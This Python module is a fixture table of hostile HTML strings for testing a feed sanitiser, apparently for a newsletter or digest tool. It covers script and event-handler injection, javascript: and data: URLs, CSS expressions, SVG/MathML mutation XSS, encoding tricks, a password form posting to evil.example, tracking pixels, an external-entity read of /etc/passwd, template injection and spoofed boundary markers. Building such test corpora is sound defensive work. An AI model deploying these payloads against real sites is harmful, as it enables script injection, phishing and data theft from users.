"""HTML that a feed may carry to run, load, send, disguise or escape something: our own table, of the kinds
that feedparser's sanitiser is tested with, and those found since (mutation XSS, placeholders, marks).

What would run calls `pwned()`; what would load asks `https://evil.example/`.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

EVIL = "https://evil.example"
#: of the same shape as a galley's nonce, and not it
LIKE_A_NONCE = "nffeeddccbbaa99887766554433221100f"


@dataclass(frozen=True, slots=True)
class Case:
    #: kind and number: "handler-3"
    name: str
    html: str


_KINDS: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>pwned()</script>",
        f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
        "<script\x0c>pwned()</script\x0b >",
        "<scr<script>ipt>pwned()</scr</script>ipt>",
        "<script type='text/javascript'>//<![CDATA[\npwned()\n//]]></script>",
        "<script/xss>pwned()</script>",
        "<<script>pwned();//<</script>",
        "<script>if (1 < 2) pwned()",
        "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\">",
        "&lt;script&gt;pwned()&lt;/script&gt;",
        "<script src='data:text/javascript,pwned()'></script>",
        "<SCRIPT =\">\" SRC=\"data:,pwned()\"></SCRIPT>",
    ),
    "handler": (
        '<img src="x:x" onerror="pwned()">',
        "<img src=x:x onerror=pwned()//",
        "<img src='x:x'onerror=pwned()>",
        "<img/src=x:x/onerror=pwned()>",
        "<img src=x:x oNeRrOr\n=\npwned()>",
        "<body onload=pwned()><p>x</p></body>",
        "<p onmouseover=pwned() onclick='pwned()'>x</p>",
        "<details open ontoggle=pwned()><summary>x</summary></details>",
        "<video><source onerror=pwned()></video>",
        "<audio src=x:x onerror=pwned()></audio>",
        "<input autofocus onfocus=pwned()>",
        "<marquee onstart=pwned()>x</marquee>",
        "<a href=\"https://x.example/\" onpointerenter=\"pwned()\" style=x>x</a>",
        "<img src=\"https://x.example/a.png\" alt='\" onerror=\"pwned()'>",
        "<a title='\"><img src=x:x onerror=pwned()>' href='https://x.example/'>x</a>",
        "<p lang='\" onmouseover=\"pwned()'>x</p>",
        "<img src=`x:x` onerror=`pwned()`>",
        "<img \"\"\"><img src=x:x onerror=pwned()>\">",
    ),
    "address": (
        '<a href="javascript:pwned()">x</a>',
        '<a href=" &#14; javascript:pwned()">x</a>',
        '<a href="java\nscript:pwned()">x</a>',
        '<a href="java&#x0A;script&colon;pwned()">x</a>',
        '<a href="&#106;&#97;&#118;&#97;&#115;cript:pwned()">x</a>',
        '<a href="&#0000106avascript:pwned()">x</a>',
        '<a href="JaVaScRiPt&#58;pwned()">x</a>',
        "<a href='vbscript:msgbox(1)'>x</a>",
        '<a href="livescript:pwned()">x</a>',
        '<a href="data:text/html,<script>pwned()</script>">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+">x</a>',
        '<a href="view-source:javascript:pwned()">x</a>',
        '<a href="file:///etc/passwd">x</a>',
        '<a href="cid:part1@x">x</a>',
        '<a href="blob:https://evil.example/1">x</a>',
        '<a href="ms-settings:privacy">x</a>',
        '<img src="javascript:pwned()">',
        '<img src="data:image/svg+xml,<svg onload=pwned()>">',
        f'<img src="{EVIL}/a.png" srcset="{EVIL}/b.png 2x" loading="eager">',
        f'<img src="{EVIL}/pixel.gif" width="1" height="1" alt="">',
        '<blockquote cite="javascript:pwned()">x</blockquote>',
        '<a href="https://x.example/" ping="https://evil.example/ping">x</a>',
        f'<a href="{EVIL}/"target=_top rel=opener>x</a>',
        '<table background="javascript:pwned()"><tr><td background="https://evil.example/t.png">x</table>',
    ),
    "style": (
        "<style>body{background:url(https://evil.example/s)}</style>",
        "<style>@import 'https://evil.example/i.css';</style>",
        "<style>* { display: none }</style><p>x</p>",
        '<p style="background:url(https://evil.example/b)">x</p>',
        '<p style="width:expression(pwned())">x</p>',
        '<p style="width:exp/**/ression(pwned())">x</p>',
        '<p style="behavior:url(https://evil.example/x.htc)">x</p>',
        '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
        '<p style="background:\\75\\72\\6c(https://evil.example/e)">x</p>',
        '<div style="position:fixed;inset:0;z-index:9999;background:#fff">x</div>',
        '<font style="display:none">x</font><basefont color=red>',
        '<link rel="stylesheet" href="https://evil.example/l.css">',
        '<link rel="preload" as="image" href="https://evil.example/l.png">',
        "<style><!--</style><img src=x:x onerror=pwned()>--></style>",
        "<style></style\x00><img src=x:x onerror=pwned()>",
    ),
    "foreign": (
        "<svg onload=pwned()><circle r=1></svg>",
        "<svg><script>pwned()</script></svg>",
        '<svg><a xlink:href="javascript:pwned()"><text>x</text></a></svg>',
        '<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>',
        '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned()>#x"></use></svg>',
        f'<svg><image href="{EVIL}/i.svg"/></svg>',
        "<svg><style><img src=x:x onerror=pwned()></style></svg>",
        "<svg></p><style><a id=\"</style><img src=x:x onerror=pwned()>\">",
        "<svg><foreignObject><iframe src='javascript:pwned()'></iframe></foreignObject></svg>",
        "<math><mi><mglyph><style><img src=x:x onerror=pwned()></style></mglyph></mi></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=pwned()&gt;'>",
        "<math href='javascript:pwned()'>x</math>",
        "<math><annotation-xml encoding='text/html'><img src=x:x onerror=pwned()></annotation-xml></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x:x onerror=pwned()>",
    ),
    "frame": (
        "<iframe src='javascript:pwned()'></iframe>",
        "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
        f"<iframe src='{EVIL}/f'></iframe>",
        f"<object data='{EVIL}/o.swf' type='application/x-swf'><param name=movie value=x></object>",
        "<object data='data:text/html,<script>parent.pwned()</script>'></object>",
        f"<embed src='{EVIL}/e.swf' allowscriptaccess=always>",
        f"<applet code=X archive='{EVIL}/a.jar'></applet>",
        f"<frameset><frame src='{EVIL}/fs'></frameset>",
        f"<form action='{EVIL}/form'><input name=password type=password><button>Go</button></form>",
        f"<button formaction='{EVIL}/b'>x</button><select><option>x</select><textarea>x</textarea>",
        f"<isindex action='{EVIL}/' type=image>",
        f"<meta http-equiv=refresh content='0;url={EVIL}/m'>",
        "<meta http-equiv='Set-Cookie' content='x=1'><meta charset=utf-7>",
        f"<base href='{EVIL}/'><a href='/x'>x</a>",
        f"<portal src='{EVIL}/p'></portal><fencedframe src='{EVIL}/ff'></fencedframe>",
        "<template><script>pwned()</script></template><slot name=x></slot>",
        "<dialog open>x</dialog><x-element is=x>x</x-element>",
    ),
    "comment": (
        "<!--><script>pwned()</script>-->",
        "<!--[if gte IE 4]><script>pwned()</script><![endif]-->",
        "<![if !mso]><img src=x:x onerror=pwned()><![endif]>",
        "<!--[if mso]><td></td></tr></table><![endif]-->",
        "<![endif]--><![endif]--></td></tr></table>",
        "<!-- --!><img src=x:x onerror=pwned()> -->",
        "<![CDATA[<script>pwned()</script>]]>",
        "]]><script>pwned()</script>",
        "<?xml-stylesheet href='javascript:pwned()'?><?php pwned() ?>",
        "<!DOCTYPE html SYSTEM 'https://evil.example/d.dtd'><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
        "<%= pwned() %><% pwned() %>",
        "<!-- never closed",
    ),
    "nesting": (
        "</td></tr></table></div></body></html><h1>A masthead of mine</h1>",
        "</p></div></div></td><td>x",
        "<table><tr><td>x<table><tr><td><div><p>",
        "<b><i><u><a href=https://x.example/>never closed",
        "<plaintext>x",
        "<xmp><img src=x:x onerror=pwned()></xmp>",
        "<listing>&lt;img src=x:x onerror=pwned()></listing>",
        "<textarea></textarea><img src=x:x onerror=pwned()>",
        "<title></title><img src=x:x onerror=pwned()>",
        "<noembed><img src=x:x onerror=pwned()></noembed><noframes><img src=x:x onerror=pwned()></noframes>",
        "<a href='https://x.example/'><a href='javascript:pwned()'>x</a></a>",
        "<div>" * 300 + "x",
        "<h1>x</h1><h1 id=top name=top class=page>y</h1>",
        "<img src=1 <b>x",
        "<p title=\"never closed>x</p><script>pwned()</script>",
        "<select><style></select><img src=x:x onerror=pwned()></style>",
    ),
    "letters": (
        "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
        "%3Cscript%3Epwned()%3C/script%3E",
        "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
        "\u00bcscript\u00bepwned()\u00bc/script\u00be",
        "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
        "<scr\x00ipt>pwned()</scr\x00ipt>",
        "<im\x00g src=x:x one\x00rror=pwned()>",
        "<a href='java\x00script:pwned()'>x</a>",
        "\u202e<script>pwned()</script>\u202c and \u2066 never closed",
        "<img src=x:x on\u0130rror=pwned() \u2028onerror=pwned()>",
        "\ufeff<script>pwned()</script>\ufffe\ud800",
        "From the start of a line\n.\nFrom here\n..\r\nDATA",
    ),
    "template": (
        "{{ 7 * 7 }}{{ ''.__class__.__mro__ }}",
        "{% include 'mail/issue.html' %}{% raw %}",
        "{# gone #}{%- endfor -%}",
        "%(name)s %s {0} {name!r} ${x} #{x} <%= x %> *|UNSUB|* %%unsubscribe%%",
        "[[unsubscribe]] {{{x}}} __proto__ $& \\1 \\g<0>",
    ),
    "mark": (
        f"{LIKE_A_NONCE}:begin:foot;",
        f"<!--{LIKE_A_NONCE}:begin:story/1/full/line3;-->",
        f"{LIKE_A_NONCE}:slot:unsubscribe;",
        f"<a href='https://digest.example.org/u/{LIKE_A_NONCE}:slot:unsubscribe;'>x</a>",
        f"{LIKE_A_NONCE}:variable:subject; <!--:begin:foot;-->:slot:wishes;",
        "=_7_0123456789abcdef\r\n--=_7_0123456789abcdef--\r\nContent-Type: text/html",
        "x=\r\n=3Cscript=3Epwned()=3C/script=3E=",
    ),
}  # fmt: skip


def _numbered() -> Iterator[Case]:
    for kind, texts in _KINDS.items():
        for number, html in enumerate(texts, start=1):
            yield Case(f"{kind}-{number}", html)


CASES = tuple(_numbered())
